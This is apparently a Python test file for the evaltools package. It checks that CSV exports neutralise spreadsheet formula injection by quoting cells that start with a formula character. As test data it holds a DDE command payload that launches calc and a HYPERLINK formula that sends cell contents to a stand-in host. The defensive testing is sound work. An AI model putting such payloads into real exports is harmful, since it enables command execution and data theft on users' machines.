"""Data CSVs evaltools writes (an imported form's folder, a many-unit folder) are opened by people in Excel:
text that would start a formula is written inert ('=…, OWASP) and read back as the text it was."""

from __future__ import annotations

import csv
from dataclasses import replace

from evaltools import load_path
from evaltools.data.folder import write_folder, write_units
from evaltools.fmt import FORMULA_START, inert, uninert
from evaltools.run.synthetic.units import generate_units

HYPERLINK = '=HYPERLINK("http://x.example/?q="&A1,"点击")'
CALC = "=cmd|' /C calc'!A0"


def _cells(path):
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return [c for row in csv.reader(handle) for c in row]


def test_inert_and_uninert_are_inverse_on_text_and_leave_numbers():
    for text in (HYPERLINK, CALC, "+86 10 1234", "-某项", "@SUM(A1)", "\t制表符开头"):
        assert inert(text) == "'" + text and uninert(inert(text)) == text
    for text in ("-5", "+3.2", "1,290", "人员经费", "'已加引号的文字", ""):
        assert inert(text) == text and uninert(text) == text  # numbers and plain text untouched
    assert uninert("'") == "'" and uninert(None) is None


def test_an_imported_folder_keeps_formula_text_inert_and_reads_it_back(data_2022, tmp_path):
    data = data_2022
    ind, projects = data.indicators, data.tables["projects"]
    first_project = projects["project"].iloc[0]
    ind = ind.assign(level3=ind["level3"].where(ind.index != ind.index[0], HYPERLINK))
    ind = ind.assign(project=ind["project"].replace(first_project, CALC))
    projects = projects.assign(project=projects["project"].replace(first_project, CALC))
    edited = replace(data, tables={**data.tables, "indicators": ind, "projects": projects})
    folder = write_folder(edited, tmp_path / "form")
    cells = [c for f in ("indicators.csv", "projects.csv") for c in _cells(folder / f)]
    live = [c for c in cells if c.startswith(FORMULA_START) and not _is_number(c)]
    assert live == []  # nothing a spreadsheet would run
    assert "'" + HYPERLINK in cells and "'" + CALC in cells
    again = load_path(folder, 2022)
    assert again.indicators["level3"].iloc[0] == HYPERLINK  # read back as the text it was, not '=…
    assert CALC in set(again.tables["projects"]["project"]) and CALC in set(again.indicators["project"])


def test_a_many_unit_folder_keeps_unit_names_inert(tmp_path):
    data = generate_units(2, 3, seed=3, year=2022, projects_per_unit=1)
    first = str(data.units["org"].iloc[0])
    rename = lambda frame: frame.assign(org=frame["org"].astype(str).replace(first, "=1+1单位"))  # noqa: E731
    tables = {k: (rename(v) if "org" in v else v) for k, v in data.tables.items()}
    folder = write_units(replace(data, units=rename(data.units), tables=tables, profiles=None), tmp_path / "many")
    assert "'=1+1单位" in _cells(folder / "units.csv")
    again = load_path(folder, 2022)
    assert "=1+1单位" in set(again.units["org"].astype(str))


def _is_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False
